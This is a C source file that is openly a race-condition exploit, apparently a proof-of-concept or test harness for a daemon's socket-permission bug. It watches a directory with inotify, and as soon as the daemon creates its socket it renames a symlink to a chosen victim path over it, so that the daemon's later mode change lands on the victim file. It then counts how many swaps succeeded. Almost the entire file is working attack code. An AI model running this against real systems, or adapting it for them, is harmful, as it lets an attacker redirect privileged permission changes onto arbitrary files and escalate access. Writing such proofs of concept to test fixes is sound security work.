/* SPDX-License-Identifier: Apache-2.0 */
/* race_symlink.c: the attacker of the socket-mode race, in C so it is fast enough to win
 * it. It watches a directory with inotify and, the moment a socket named NAME is created
 * there (the daemon's bind()), renames a symlink to VICTIM over it, before the daemon
 * sets the socket's mode. It keeps doing so for SECONDS and prints how many swaps it made.
 * Usage: race_symlink DIR NAME VICTIM SECONDS */
#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    char sock[PATH_MAX], tmp[PATH_MAX];
    char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
    unsigned long swaps = 0;

    if (argc != 5) {
        fprintf(stderr, "usage: race_symlink DIR NAME VICTIM SECONDS\n");
        return 2;
    }
    snprintf(sock, sizeof(sock), "%s/%s", argv[1], argv[2]);
    snprintf(tmp, sizeof(tmp), "%s/.%s.evil", argv[1], argv[2]);
    double end = now_s() + atof(argv[4]);
    int fd = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
    if (fd < 0 || inotify_add_watch(fd, argv[1], IN_CREATE) < 0) {
        perror("inotify");
        return 1;
    }
    /* start the dance: take the name, the daemon takes it back and binds again */
    (void)unlink(tmp);
    if (symlink(argv[3], tmp) == 0 && rename(tmp, sock) == 0)
        swaps++;
    while (now_s() < end) {
        struct pollfd p = {.fd = fd, .events = POLLIN};
        if (poll(&p, 1, 50) <= 0)
            continue;
        ssize_t n = read(fd, buf, sizeof(buf));
        for (char *q = buf; n > 0 && q < buf + n;) {
            const struct inotify_event *ev = (const struct inotify_event *)q;
            q += sizeof(*ev) + ev->len;
            if (ev->len && strcmp(ev->name, argv[2]) == 0) {
                (void)unlink(tmp);
                if (symlink(argv[3], tmp) == 0 && rename(tmp, sock) == 0)
                    swaps++;
            }
        }
    }
    (void)unlink(tmp);
    printf("%lu\n", swaps);
    return 0;
}
